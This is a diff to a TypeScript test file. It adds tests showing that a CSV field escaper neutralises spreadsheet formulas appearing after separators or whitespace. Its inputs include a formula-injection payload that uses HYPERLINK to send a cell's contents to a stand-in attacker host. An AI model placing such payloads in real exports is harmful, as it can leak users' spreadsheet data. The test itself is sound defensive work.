@@ -3,6 +3,7 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { expect } from 'chai';
+import fc from 'fast-check';
 import { computeCaseReport } from '../../activities/reports/case-report';
 import { portfolioReport } from '../../activities/reports/portfolio';
 import { caseReportCsv, csvField, portfolioCsv } from '../../activities/reports/render-csv';
@@ -22,6 +23,26 @@ describe('report rendering', () => {
     expect(csvField('=SUM(A1:A9)')).to.equal("'=SUM(A1:A9)");
     expect(csvField(-3)).to.equal('-3');
     expect(csvField(null)).to.equal('');
+  });
+
+  it('defuses a formula wherever a spreadsheet could find one: after ; or , or whitespace, not only at the start', () => {
+    for (const title of ['x;=HYPERLINK("http://evil.example/?"&A1)', ' =1+1', 'a, @SUM(1)', 'note\t=cmd', 'x\r+1', 'a -2+3', 'a;-1']) {
+      expect(csvField(title), JSON.stringify(title)).to.match(/^"?'/);
+    }
+    for (const safe of ['2026-05-31T14:30:00Z', 'hr-grievance v1', 'a=b', 'e-mail', 'x+y']) expect(csvField(safe), safe).to.equal(safe);
+    // Whatever the text, no piece a spreadsheet splits off at ; , or whitespace starts a formula unless the cell is defused.
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom('a', '1', ' ', ';', ',', '=', '+', '-', '@', '\t', '\r', '"') }), (text) => {
+        const field = csvField(text);
+        const cell = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
+        const defused = cell.startsWith("'");
+        return defused || cell.split(/[;,\s]/).every((piece) => !/^[=+\-@\t\r]/.test(piece));
+      }),
+      { numRuns: 2000 },
+    );
+    const lines = caseReportCsv({ ...report, title: 'x;=HYPERLINK("http://evil.example/")', evaluation: { note: ' =1+1' } }).split('\r\n');
+    expect(lines).to.include(`metric,title,"'x;=HYPERLINK(""http://evil.example/"")",,`);
+    expect(lines).to.include("evaluation,note,' =1+1,,");
   });
 
   it('writes the case report as a metrics section and a phase section under one header', () => {
